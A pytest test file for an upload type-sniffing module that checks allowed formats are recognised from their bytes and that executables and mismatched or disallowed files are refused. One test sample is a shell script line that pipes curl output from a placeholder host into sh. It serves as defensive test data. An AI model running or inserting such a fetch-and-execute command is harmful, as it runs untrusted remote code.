"""The real type of an upload from its bytes: every allowed type from a real sample,
executables refused whatever their name, every mismatch refused with its reason."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from files import types
from files.sniff import HEAD_SIZE, Reason, Refusal, Sniffed, sniff, sniff_file
from tests.files import samples

SAMPLES = samples.samples()


def reason(result: Sniffed | Refusal) -> Reason:
    assert isinstance(result, Refusal), result
    return result.reason


@pytest.mark.parametrize("kind", [t.name for t in types.ALLOWED])
def test_every_allowed_type_is_recognised_from_a_real_sample(kind: str, tmp_path: Path) -> None:
    expected = types.BY_NAME[kind]
    data = SAMPLES[kind]
    for extension in expected.extensions:
        name = f"Plan Rev B{extension.upper()}"
        for declared in (*expected.mimes, "", "application/octet-stream"):
            assert sniff(data[:HEAD_SIZE], name, declared) == Sniffed(expected)
        path = samples.write(tmp_path, name, data)
        assert sniff_file(path, name, expected.mime) == Sniffed(expected)


def test_a_declared_type_with_parameters_is_read_for_its_type() -> None:
    assert sniff(SAMPLES["csv"], "q.csv", "Text/CSV; charset=utf-8") == Sniffed(types.CSV)


def test_a_heif_of_the_generic_brand_is_heic_and_an_avif_is_not() -> None:
    def ftyp(major: bytes, *compatible: bytes) -> bytes:
        body = major + b"\x00\x00\x00\x00" + b"".join(compatible)
        return (8 + len(body)).to_bytes(4, "big") + b"ftyp" + body + b"\x00" * 64

    assert sniff(ftyp(b"mif1", b"mif1", b"heic"), "p.heic", "image/heic") == Sniffed(types.HEIC)
    assert sniff(ftyp(b"mif1", b"mif1"), "p.heif", "image/heif") == Sniffed(types.HEIC)
    assert reason(sniff(ftyp(b"avif", b"mif1", b"avif"), "p.heic", "")) == Reason.UNRECOGNISED
    assert reason(sniff(ftyp(b"mif1", b"avif"), "p.heic", "")) == Reason.UNRECOGNISED
    assert reason(sniff(ftyp(b"isom", b"mp41"), "p.heic", "")) == Reason.UNRECOGNISED


def test_dxf_variants_are_recognised() -> None:
    commented = b"999\nexported by a CAD program\n0\nSECTION\n2\nHEADER\n0\nENDSEC\n"
    binary = b"AutoCAD Binary DXF\r\n\x1a\x00" + bytes(range(256))
    for data in (commented, samples.DXF.replace(b"\r\n", b"\n"), binary):
        assert sniff(data, "floor.dxf", "image/vnd.dxf") == Sniffed(types.DXF)


def test_an_office_document_is_told_by_its_entries() -> None:
    assert sniff(samples.docx(), "spec.xlsx", "") == Refusal(
        Reason.EXTENSION_MISMATCH, "the name says .xlsx but the bytes are DOCX")
    assert reason(sniff(SAMPLES["zip"], "spec.docx", "")) == Reason.EXTENSION_MISMATCH
    # An Office document is a ZIP archive: as a .zip it is one.
    assert sniff(samples.docx(), "spec.zip", "application/zip") == Sniffed(types.ZIP)


def test_an_archive_listed_only_at_its_end_is_read_from_its_central_directory(
        tmp_path: Path) -> None:
    data = samples.xlsx_listed_last()
    assert len(data) > HEAD_SIZE
    head = data[:HEAD_SIZE]
    assert reason(sniff(head, "costs.xlsx", "")) == Reason.ZIP_UNLISTED
    path = samples.write(tmp_path, "upload.bin", data)
    assert sniff(head, "costs.xlsx", "", path=path) == Sniffed(types.XLSX)
    assert sniff_file(path, "costs.xlsx", "") == Sniffed(types.XLSX)
    assert reason(sniff_file(path, "costs.docx", "")) == Reason.EXTENSION_MISMATCH
    damaged = samples.write(tmp_path, "damaged.bin", data[:-200])
    assert reason(sniff_file(damaged, "costs.xlsx", "")) == Reason.UNRECOGNISED


@pytest.mark.parametrize(("name", "declared"), [
    ("drawing.pdf", "application/pdf"), ("photo.jpg", "image/jpeg"), ("notes.txt", ""),
])
def test_a_real_executable_is_refused_whatever_its_name(name: str, declared: str) -> None:
    elf = Path(shutil.which("true") or "/bin/true").read_bytes()[:HEAD_SIZE]
    assert sniff(elf, name, declared) == Refusal(Reason.EXECUTABLE,
                                                 "the bytes are an ELF executable")


@pytest.mark.parametrize(("head", "what"), [
    (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(48) + b"PE\x00\x00",
     "a Windows/DOS executable (MZ)"),
    (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(56), "a Mach-O executable"),
    (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(56), "a Mach-O universal binary"),
    (b"#!/bin/sh\ncurl http://example.invalid | sh\n", "a script (#!)"),
])
def test_executable_headers_are_refused(head: bytes, what: str) -> None:
    for name in ("sheet.pdf", "budget.csv", "readme.txt", "model.ifc"):
        assert sniff(head, name, "") == Refusal(Reason.EXECUTABLE, f"the bytes are {what}")


def test_a_name_and_bytes_that_disagree_are_refused() -> None:
    assert sniff(SAMPLES["png"], "sheet.pdf", "application/pdf") == Refusal(
        Reason.EXTENSION_MISMATCH, "the name says .pdf but the bytes are PNG")
    assert reason(sniff(SAMPLES["txt"], "sheet.pdf", "")) == Reason.EXTENSION_MISMATCH
    assert reason(sniff(SAMPLES["pdf"], "notes.txt", "")) == Reason.EXTENSION_MISMATCH
    assert reason(sniff(SAMPLES["jpeg"], "photo.heic", "")) == Reason.EXTENSION_MISMATCH
    assert reason(sniff(samples.IFC, "model.txt", "")) == Reason.EXTENSION_MISMATCH


def test_a_declared_type_that_disagrees_with_the_bytes_is_refused() -> None:
    assert sniff(SAMPLES["pdf"], "sheet.pdf", "image/png") == Refusal(
        Reason.DECLARED_MISMATCH, "declared image/png but the bytes are PDF (application/pdf)")
    assert reason(sniff(SAMPLES["txt"], "a.txt", "text/csv")) == Reason.DECLARED_MISMATCH
    assert reason(sniff(SAMPLES["zip"], "a.zip", "application/x-msdownload")) == (
        Reason.DECLARED_MISMATCH)


def test_names_of_types_not_allowed_are_refused() -> None:
    for name in ("setup.exe", "photo.gif", "README", ".pdf", "archive.tar.gz"):
        assert reason(sniff(b"plain words", name, "")) == Reason.EXTENSION_NOT_ALLOWED


def test_bytes_of_no_allowed_type_are_refused() -> None:
    gif = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04"
    utf16 = "kalem,miktar\n".encode("utf-16")
    latin1 = "Çimento,12\n".encode("latin-1")
    step = samples.IFC.replace(b"IFC4", b"AUTOMOTIVE_DESIGN")  # a STEP file, not IFC
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)  # a legacy .xls
    for data, name in ((gif, "a.png"), (utf16, "a.csv"), (latin1, "a.csv"), (ole, "a.xlsx")):
        assert reason(sniff(data, name, "")) == Reason.UNRECOGNISED
    assert sniff(step, "a.ifc", "") == Refusal(
        Reason.EXTENSION_MISMATCH, "the name says .ifc but the bytes are TXT")


def test_an_empty_file_is_refused() -> None:
    assert sniff(b"", "empty.txt", "text/plain") == Refusal(Reason.EMPTY, "the file is empty")


def test_a_character_cut_at_the_end_of_the_head_is_not_an_error() -> None:
    text = ("a" * (HEAD_SIZE - 1) + "ş\n").encode()  # ş is two bytes: the head ends inside it
    head = text[:HEAD_SIZE]
    assert sniff(head, "long.txt", "") == Sniffed(types.TXT)
    whole = head[:100] + "ş".encode()[:1]  # the whole file, ending in half a character
    assert reason(sniff(whole, "short.txt", "")) == Reason.UNRECOGNISED


def test_extension_of_reads_the_last_suffix_of_the_base_name() -> None:
    assert types.extension_of("Plan.PDF") == ".pdf"
    assert types.extension_of("C:\\uploads\\x.docx") == ".docx"
    assert types.extension_of("dir.v2/readme") == ""
    assert types.extension_of(".bashrc") == ""
    assert types.extension_of("a.tar.gz") == ".gz"
